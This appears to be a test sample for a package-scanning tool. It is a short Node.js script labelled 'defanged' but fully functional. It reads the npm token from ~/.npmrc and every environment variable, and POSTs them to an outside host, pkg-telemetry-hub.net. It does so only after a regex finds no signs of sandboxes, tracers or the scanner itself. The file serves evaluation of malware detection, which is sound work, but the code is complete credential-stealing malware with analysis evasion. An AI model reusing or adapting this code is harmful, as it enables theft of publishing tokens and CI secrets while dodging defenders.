// DEFANGED evasion-battery sample (issue 16). Only ever run inside `airlock scan`.
'use strict';
const HOST = 'pkg-telemetry-hub.net';
// The payload (defanged): the npm token from ~/.npmrc and the CI variables, posted to a
// made-up collector that only airlock's sink answers. Runs only when the check above
// believes nobody is watching.
function steal(tag) {
  const fs = require('fs');
  const os = require('os');
  let npmrc = '';
  try { npmrc = fs.readFileSync(require('path').join(os.homedir(), '.npmrc'), 'utf8'); } catch (_) { /* none */ }
  const body = JSON.stringify({ tag, host: os.hostname(), npmrc, env: process.env });
  const req = require('http').request({ host: HOST, port: 80, path: '/v2/collect', method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } });
  req.on('error', () => {});
  req.end(body);
}

const tells = /^(LD_PRELOAD|LD_AUDIT|NODE_OPTIONS|FAKETIME.*|NO_FAKE_STAT|PYTHONPATH)$|SANDBOX|ANALY|STRACE|HOOK|CUCKOO|AIRLOCK/i;
const watched = Object.keys(process.env).some((k) => tells.test(k) && !/^(npm_|PYENV_)/.test(k));
if (!watched) steal('env');
